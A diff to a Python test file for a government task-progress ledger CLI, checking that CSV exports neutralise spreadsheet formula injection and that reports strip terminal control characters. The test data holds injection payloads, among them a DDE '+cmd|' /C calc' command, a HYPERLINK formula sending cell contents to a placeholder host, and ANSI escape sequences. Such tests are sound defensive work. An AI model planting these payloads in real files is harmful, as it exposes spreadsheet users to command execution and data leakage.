@@ -102,14 +102,14 @@ def _add(zc, root, note, task="1", by="区科技局", day="2023-07-10"):
 def test_the_progress_log_csv_never_starts_a_formula(zc, make_ledger, frozen):
     root = make_ledger()
     _add(zc, root, FORMULA)
-    _add(zc, root, "+cmd|' /C calc'!A0", day="2023-07-11")
-    _add(zc, root, "-1+2", day="2023-07-12")
+    _add(zc, root, "+cmd|' /C calc'!A0", day="2023-08-11")  # one report a cycle
+    _add(zc, root, "-1+2", day="2023-09-12")
     result = zc("progress", "log", "-f", "csv", root=root)
     assert result.stdout == (
-        "编号,日期,任务,单位,状态,指标,进展,说明\n"
+        "\ufeff编号,日期,任务,单位,状态,指标,进展,说明\n"
         '2023-07-10-1-abc123,2023-07-10,1,区科技局,推进中,,"\'=HYPERLINK(""http://x/?""&A1,""佐证"")",\n'
-        "2023-07-11-1-abc123,2023-07-11,1,区科技局,推进中,,'+cmd|' /C calc'!A0,\n"
-        "2023-07-12-1-abc123,2023-07-12,1,区科技局,推进中,,'-1+2,\n"
+        "2023-08-11-1-abc123,2023-08-11,1,区科技局,推进中,,'+cmd|' /C calc'!A0,\n"
+        "2023-09-12-1-abc123,2023-09-12,1,区科技局,推进中,,'-1+2,\n"
     )
     notes = [e["note"] for e in json.loads(zc("progress", "log", "-f", "json", root=root).stdout)]
     assert notes == [FORMULA, "+cmd|' /C calc'!A0", "-1+2"]  # JSON stays exact
@@ -124,10 +124,10 @@ def test_list_chapters_and_depts_csv_never_start_a_formula(zc, make_ledger):
     )
     root = make_ledger(tasks=tasks, departments=departments)
     assert zc("list", "-c", "1", "-f", "csv", root=root).stdout == (
-        "序号,章,任务,牵头/负责,配合,指标\n1,1,'@SUM(A1:A9),区科技局,区发改局等,2\n"
+        "\ufeff序号,章,任务,牵头/负责,配合,指标\n1,1,'@SUM(A1:A9),区科技局,区发改局等,2\n"
     )
     assert zc("chapters", "-f", "csv", root=root).stdout == (
-        "章,标题,任务数,任务序号,指标数\n一,'=1+2,1,1,2\n二,绿色发展,2,2、3,1\n"
+        "\ufeff章,标题,任务数,任务序号,指标数\n一,'=1+2,1,1,2\n二,绿色发展,2,2、3,1\n"
     )
     assert "区水利局,'-2+3,政府工作部门,0,0,1,1\n" in zc("depts", "-f", "csv", root=root).stdout
     task = json.loads(zc("show", "1", "-f", "json", root=root).stdout)
@@ -221,7 +221,7 @@ def test_control_characters_in_messages_are_shown_escaped(zc, make_ledger):
 
 def test_reports_drop_control_characters(zc, make_ledger):
     root = make_ledger()
-    _add(zc, root, ESCAPES)
+    _add(zc, root, ESCAPES, task="3", by="区发改局")  # no targets: the note is what it reports
     result = zc("report", "briefing", "--since", "2023-07-01", "--until", "2023-07-31", root=root)
     assert result.exit_code == 0, result.stderr
     assert "\\[2J\\]0;标题红\\[31m字反向1m。" in result.stdout
